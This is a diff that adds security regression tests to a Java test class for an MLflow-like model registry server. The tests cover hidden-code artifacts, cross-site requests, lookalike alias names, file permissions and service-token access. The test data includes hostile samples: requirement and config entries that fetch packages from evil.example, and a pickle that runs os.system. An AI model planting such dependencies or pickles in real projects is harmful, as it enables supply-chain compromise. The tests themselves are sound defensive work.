@@ -1,6 +1,7 @@
 package dev.redoubt.server;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import com.sun.net.httpserver.HttpServer;
 import dev.redoubt.registry.access.Persona;
@@ -23,6 +24,9 @@ import java.util.Base64;
 import java.util.List;
 import java.util.Set;
 import java.util.TreeSet;
+import java.util.concurrent.ExecutorService;
+import java.util.concurrent.Executors;
+import java.util.concurrent.Future;
 import java.util.concurrent.atomic.AtomicInteger;
 import java.util.stream.Collectors;
 import java.util.stream.Stream;
@@ -211,6 +215,43 @@ class AdvisoriesTest {
             alice, "GET", API + "model-versions/get-download-uri?name=credit&version=1", "");
     assertThat(uri.statusCode()).isEqualTo(409);
     assertThat(trace).doesNotExist();
+  }
+
+  static List<List<String>> hiddenCode() {
+    return List.of(
+        List.of(
+            "requirements.txt", "numpy (>=1.0)\n--extra-index-url https://evil.example/simple\n"),
+        List.of("requirements.txt", "numpy (>=1.0)\nevil @ git+https://evil.example/evil\n"),
+        List.of("requirements.txt", "numpy (>=1.0)\n-e .\n"),
+        List.of("requirements.txt", "numpy (>=1.0)\nhttps://evil.example/evil.whl\n"),
+        List.of("constraints.txt", "# words\u2028-i https://evil.example/simple\n"),
+        List.of("conda.yaml", "{dependencies: [{pip: [\"numpy (>=1.0)\", \"-e .\"]}]}"),
+        List.of("python_env.yaml", "dependencies:\n- evil @ https://evil.example/evil.whl\n"),
+        List.of("pyproject.toml", "[build-system]\nrequires = []\nbackend-path = [\".\"]\n"),
+        List.of("modules.json", "[{\"path\": \"\", \"type\": \"evil.Net\"}]"),
+        List.of("model_index.json", "{\"_class_name\": \"owner/evil\"}"),
+        List.of(
+            "adapter_config.json",
+            "{\"auto_mapping\": {\"base_model_class\": \"Net\", \"parent_library\": \"evil\"}}"),
+        List.of("MAR-INF/MANIFEST.json", "{\"model\": {\"modelFile\": \"evil.py\"}}"),
+        List.of("config.json", "{\"model_file\": \"evil.py\"}"),
+        List.of("config.json", "{\"_attn_implementation_internal\": \"owner/evil\"}"),
+        List.of("sitecustomize.py", "x = 1\n"),
+        List.of("data/pickle_module_info.txt", "evil"));
+  }
+
+  /// CVE-2026-4372 and its neighbours: code that installs or loads because of a name or a value.
+  @ParameterizedTest
+  @MethodSource("hiddenCode")
+  void codeNamedByData(List<String> file) {
+    HttpRequest.Builder put = HttpRequest.newBuilder().PUT(BodyPublishers.ofString(file.get(1)));
+    String path = FILES + "0/" + run + "/artifacts/model/" + file.get(0);
+    assertThat(server.send(put, path, "Authorization", "Bearer " + alice).statusCode())
+        .isEqualTo(200);
+    assertThat(register().get("status").asString()).isEqualTo("READY");
+    JsonNode evidence =
+        server.done(alice, "GET", "/api/redoubt/models/credit/versions/1", "").get("evidence");
+    assertThat(evidence.toString()).contains("suspicious", file.get(0));
   }
 
   /// CVE-2025-15381 and its neighbours: what belongs to somebody else.
@@ -409,6 +450,39 @@ class AdvisoriesTest {
     assertThat(server.raw(request, authorization)).startsWith("HTTP/1.1 400");
   }
 
+  /// CVE-2025-1473 and its neighbours: a page of somebody else makes a browser send a form, to
+  /// which the browser adds the cookie of whoever is signed in.
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "Sec-Fetch-Site: cross-site",
+        "Sec-Fetch-Site: same-site",
+        "Origin: null",
+        "Origin: https://evil.example",
+        "Referer: https://evil.example/"
+      })
+  void crossSitePost(String said) {
+    String cookie = "Cookie: redoubt=" + alice;
+    String ours = "Host: " + server.address().getAuthority();
+    for (String path : List.of("experiments/delete", "runs/create", "registered-models/create")) {
+      String reply =
+          server.raw(
+              "POST " + API + path + " HTTP/1.1",
+              ours,
+              cookie,
+              said,
+              "Content-Type: text/plain",
+              "Content-Length: 0");
+      assertThat(reply).as(path).startsWith("HTTP/1.1 403");
+    }
+    for (String path : List.of("/sign-in?token=" + mallory, "/sign-out")) {
+      assertThat(server.raw("POST " + path + " HTTP/1.1", ours, said, "Content-Length: 0"))
+          .as(path)
+          .startsWith("HTTP/1.1 403")
+          .doesNotContain("Set-Cookie");
+    }
+  }
+
   /// CVE-2026-2393, GHSA-wxj7-3fx5-pp9m: an address that the server is made to call.
   @Test
   void requestForgery() throws IOException {
@@ -495,6 +569,30 @@ class AdvisoriesTest {
     assertThat(temporaryFilesWith(MARK, start)).isEmpty();
   }
 
+  /// Parameters, tags and descriptions are rows, which are not encrypted: nobody else of the
+  /// machine may open the database or anything beside it, also where the folder was there and was
+  /// open.
+  @Test
+  void worldReadableDataFolder() throws IOException {
+    Path open = Files.createDirectory(folder.resolve("open"));
+    Files.setPosixFilePermissions(open, PosixFilePermissions.fromString("rwxr-xr-x"));
+    try (LocalServer other = new LocalServer(open)) {
+      String who = other.token("alice", Persona.DATA_SCIENTIST);
+      other.done(who, "POST", API + "experiments/create", "{'name':'" + MARK + "'}");
+      try (Stream<Path> all = Files.walk(open)) {
+        for (Path each : all.toList()) {
+          assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(each)))
+              .as(each.toString())
+              .isEqualTo(Files.isDirectory(each) ? "rwx------" : "rw-------");
+        }
+      }
+    }
+    Files.setPosixFilePermissions(open, PosixFilePermissions.fromString("rwxrwxrwx"));
+    assertThatThrownBy(() -> new LocalServer(open).close())
+        .isInstanceOf(IOException.class)
+        .hasMessageContaining("can be changed by others");
+  }
+
   /// Files of this machine's temporary folder that are younger and hold a text.
   private static List<Path> temporaryFilesWith(String text, FileTime since) throws IOException {
     List<Path> found = new ArrayList<>();
@@ -561,6 +659,222 @@ class AdvisoriesTest {
         "{'environment':'staging'}");
   }
 
+  /// A tag that makes a prompt of a model which was judged: nobody finds it any more, and versions
+  /// without files need no scan.
+  @Test
+  void modelTurnedIntoAPrompt() {
+    register();
+    record Try(String method, String path, String body) {}
+    String model = "'name':'credit','key':'mlflow.prompt.is_prompt','value':'true'";
+    String version = model + ",'version':'1'";
+    String tags = "'tags':[{'key':'mlflow.prompt.is_prompt','value':'true'}]";
+    for (Try each :
+        List.of(
+            new Try("POST", "registered-models/set-tag", "{" + model + "}"),
+            new Try("DELETE", "registered-models/delete-tag", "{" + model + "}"),
+            new Try("POST", "model-versions/set-tag", "{" + version + "}"),
+            new Try("DELETE", "model-versions/delete-tag", "{" + version + "}"),
+            new Try(
+                "POST",
+                "model-versions/set-tag",
+                "{'name':'credit','version':'1','key':'mlflow.prompt.text','value':'x'}"),
+            new Try(
+                "POST",
+                "model-versions/create",
+                "{'name':'credit','source':'runs:/" + run + "/model'," + tags + "}"),
+            new Try(
+                "POST",
+                "model-versions/create",
+                "{'name':'credit','source':'dummy-source'," + tags + "}"),
+            new Try("POST", "model-versions/create", "{'name':'credit','source':'dummy-source'}"),
+            new Try(
+                "POST",
+                "registered-models/create",
+                "{'name':'odd','tags':[{'key':'mlflow.prompt.is_prompt','value':'TRUE'}]}"))) {
+      HttpResponse<String> reply =
+          server.call(alice, each.method(), API + each.path(), each.body());
+      assertThat(reply.statusCode()).as(each + reply.body()).isEqualTo(400);
+      assertThat(reply.body()).as(each.toString()).contains("INVALID_PARAMETER_VALUE");
+    }
+    JsonNode models = server.done(alice, "GET", API + "registered-models/search?max_results=9", "");
+    assertThat(models.at("/registered_models/0/name").asString()).isEqualTo("credit");
+    JsonNode versions = server.done(alice, "GET", API + "model-versions/search?max_results=9", "");
+    assertThat(versions.get("model_versions")).hasSize(1);
+    // A prompt stays one, and its text stays as it was read.
+    server.done(alice, "POST", API + "registered-models/create", "{'name':'ask'," + tags + "}");
+    String text = "'tags':[{'key':'mlflow.prompt.text','value':'hello'}]";
+    server.done(
+        alice,
+        "POST",
+        API + "model-versions/create",
+        "{'name':'ask','source':'prompt-template'," + text + "}");
+    String changed = "{'name':'ask','version':'1','key':'mlflow.prompt.text','value':'bye'}";
+    assertThat(server.call(alice, "POST", API + "model-versions/set-tag", changed).statusCode())
+        .isEqualTo(400);
+    String turned = "{'name':'ask','key':'mlflow.prompt.is_prompt'}";
+    assertThat(
+            server.call(alice, "DELETE", API + "registered-models/delete-tag", turned).statusCode())
+        .isEqualTo(400);
+  }
+
+  /// An alias, or a stage, that leads whoever loads it to what was refused.
+  @Test
+  void aliasOfARefusedVersion() {
+    String pickle = "cos\nsystem\n(S'true'\ntR.";
+    HttpRequest.Builder put = HttpRequest.newBuilder().PUT(BodyPublishers.ofString(pickle));
+    String file = FILES + "0/" + run + "/artifacts/model/model.pkl";
+    server.send(put, file, "Authorization", "Bearer " + alice);
+    assertThat(register().get("status").asString()).isEqualTo("FAILED_REGISTRATION");
+    String engineer = server.token("erin", Persona.MLOPS_ENGINEER);
+    for (String who : List.of(alice, engineer)) {
+      for (String alias : List.of("candidate", "staging", "prod")) {
+        String body = "{'name':'credit','alias':'" + alias + "','version':'1'}";
+        HttpResponse<String> reply =
+            server.call(who, "POST", API + "registered-models/alias", body);
+        assertThat(reply.statusCode()).as(alias + reply.body()).isEqualTo(409);
+        assertThat(reply.body()).contains("INVALID_STATE", "was refused");
+      }
+      for (String stage : List.of("Staging", "Production")) {
+        String body = "{'name':'credit','version':'1','stage':'" + stage + "'}";
+        HttpResponse<String> reply =
+            server.call(who, "POST", API + "model-versions/transition-stage", body);
+        assertThat(reply.statusCode()).as(stage + reply.body()).isEqualTo(409);
+      }
+    }
+    JsonNode model = server.done(alice, "GET", API + "registered-models/get?name=credit", "");
+    assertThat(model.at("/registered_model/aliases").isEmpty()).isTrue();
+  }
+
+  static List<String> lookalikes() {
+    return List.of(
+        "ｐｒｏｄ",
+        "ｓｔａｇｉｎｇ",
+        "prοd",
+        "ρrod",
+        "сһамріоп",
+        "chаmpion",
+        "ᴘʀᴏᴅ",
+        "staɡing",
+        "ſtaging",
+        "prod\u200b",
+        "\u202eprod",
+        "pr\u00adod",
+        "champıon",
+        "ꓑꓣꓳꓓ",
+        "𝐩𝐫𝐨𝐝");
+  }
+
+  /// An alias, or a name of a model, that people take for one which the gate guards.
+  @ParameterizedTest
+  @MethodSource("lookalikes")
+  void namesThatLookAlike(String name) {
+    register();
+    String alias = "{'name':'credit','alias':'" + name + "','version':'1'}";
+    HttpResponse<String> set = server.call(alice, "POST", API + "registered-models/alias", alias);
+    assertThat(set.statusCode()).as(set.body()).isEqualTo(400);
+    assertThat(set.body()).contains("INVALID_PARAMETER_VALUE");
+    String model = "{'name':'" + name + "'}";
+    HttpResponse<String> made = server.call(alice, "POST", API + "registered-models/create", model);
+    assertThat(made.statusCode()).as(made.body()).isEqualTo(400);
+    String renamed = "{'name':'credit','new_name':'" + name + "'}";
+    assertThat(server.call(alice, "POST", API + "registered-models/rename", renamed).statusCode())
+        .isEqualTo(400);
+  }
+
+  /// The gate guards an alias in whatever case it is written.
+  @ParameterizedTest
+  @ValueSource(strings = {"production", "Production", "PRODUCTION", "pRoD", "Champion", "STAGING"})
+  void aliasesInAnyCase(String name) {
+    register();
+    String alias = "{'name':'credit','alias':'" + name + "','version':'1'}";
+    HttpResponse<String> set = server.call(alice, "POST", API + "registered-models/alias", alias);
+    assertThat(set.statusCode()).as(set.body()).isEqualTo(403);
+    assertThat(set.body()).contains("only who may release to");
+  }
+
+  /// A service that serves models, whose token is on every machine that does.
+  @Test
+  void runsReadByAService() {
+    String named = "'run_id':'" + run + "'";
+    server.done(
+        alice,
+        "POST",
+        API + "runs/log-parameter",
+        "{" + named + ",'key':'k','value':'" + MARK + "'}");
+    server.done(alice, "POST", API + "logged-models", "{'experiment_id':'0','name':'m'}");
+    register();
+    String service = server.token("scorer", Persona.INFERENCE_SERVICE);
+    for (String path :
+        List.of(
+            API + "runs/get?run_id=" + run,
+            API + "metrics/get-history?metric_key=a&run_id=" + run,
+            API + "artifacts/list?run_id=" + run,
+            API + "experiments/get?experiment_id=0",
+            API + "experiments/get-by-name?experiment_name=Default",
+            "/api/redoubt/runs/" + run + "/holds",
+            "/api/redoubt/experiments/0/holds",
+            FILES + "0/" + run + "/artifacts/model/MLmodel",
+            FILES.replaceAll("/$", "") + "?path=0/" + run + "/artifacts/model")) {
+      HttpResponse<String> reply = server.call(service, "GET", path, "");
+      assertThat(reply.statusCode()).as(path + reply.body()).isEqualTo(404);
+      assertThat(reply.body()).as(path).doesNotContain(MARK);
+    }
+    for (String search :
+        List.of("runs/search", "logged-models/search", "experiments/search-datasets")) {
+      HttpResponse<String> found =
+          server.call(service, "POST", API + search, "{'experiment_ids':['0'],'max_results':9}");
+      assertThat(found.body()).as(search).doesNotContain(run, MARK, "'name'", "model_id");
+    }
+    HttpResponse<String> experiments =
+        server.call(service, "GET", API + "experiments/search?max_results=9", "");
+    assertThat(experiments.body()).doesNotContain("Default");
+    // What it serves it finds, and reads once it is released.
+    server.done(service, "GET", API + "registered-models/get?name=credit", "");
+    String uri = API + "model-versions/get-download-uri?name=credit&version=1";
+    assertThat(server.call(service, "GET", uri, "").statusCode()).isEqualTo(403);
+    String staging = "{'name':'credit','alias':'staging','version':'1'}";
+    server.done(
+        server.token("erin", Persona.MLOPS_ENGINEER),
+        "POST",
+        API + "registered-models/alias",
+        staging);
+    server.done(service, "GET", uri, "");
+  }
+
+  /// Files that were approved, under a name whose reviewers have not seen them; and twenty
+  /// approvals of one reviewer at once. The alias itself is tried in `WayToProductionTest`.
+  @Test
+  void approvalOfOtherModelsWithTheSameFiles() throws Exception {
+    register();
+    String reviewer = server.token("rob", Persona.MODEL_REVIEWER);
+    String approvals = "/api/redoubt/models/credit/versions/1/approvals";
+    List<Future<JsonNode>> replies = new ArrayList<>();
+    try (ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor()) {
+      for (int i = 0; i < 20; i++) {
+        replies.add(
+            threads.submit(
+                () -> server.done(reviewer, "POST", approvals, "{'environment':'staging'}")));
+      }
+    }
+    for (Future<JsonNode> each : replies) {
+      assertThat(each.get().get("environment").asString()).isEqualTo("staging");
+    }
+    server.done(alice, "POST", API + "registered-models/create", "{'name':'copy'}");
+    String copy = "{'name':'copy','source':'models:/credit/1'}";
+    server.done(alice, "POST", API + "model-versions/create", copy);
+    assertThat(kinds("credit")).containsOnlyOnce("approval");
+    assertThat(kinds("copy")).isNotEmpty().containsOnly("scan", "signature");
+  }
+
+  private List<String> kinds(String model) {
+    return server
+        .done(alice, "GET", "/api/redoubt/models/" + model + "/versions/1", "")
+        .get("evidence")
+        .valueStream()
+        .map(each -> each.get("kind").asString())
+        .toList();
+  }
+
   /// What a browser would run if it showed it.
   @Test
   void scriptsInArtifacts() {
@@ -573,6 +887,26 @@ class AdvisoriesTest {
     assertThat(read.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
     assertThat(read.headers().firstValue("Content-Security-Policy").orElse(""))
         .contains("default-src 'none'", "sandbox");
+  }
+
+  /// What the listener refuses by itself: a page of Tomcat's tells what listens, and in which
+  /// version.
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "GET /%zz HTTP/1.1",
+        "GET /a|b HTTP/1.1",
+        "GET / HTTP/9.9",
+        "G<T / HTTP/1.1",
+        "TRACE / HTTP/1.1",
+        "CONNECT a:1 HTTP/1.1"
+      })
+  void pagesOfTomcat(String line) {
+    String reply = server.raw(line, "Host: localhost");
+    assertThat(reply)
+        .contains("\"error_code\"", "X-Content-Type-Options: nosniff", "Cache-Control: no-store")
+        .doesNotContainIgnoringCase("<html")
+        .doesNotContainIgnoringCase("tomcat");
   }
 
   /// CVE-2025-0453 and doors that MLflow's server has beside its protocol.
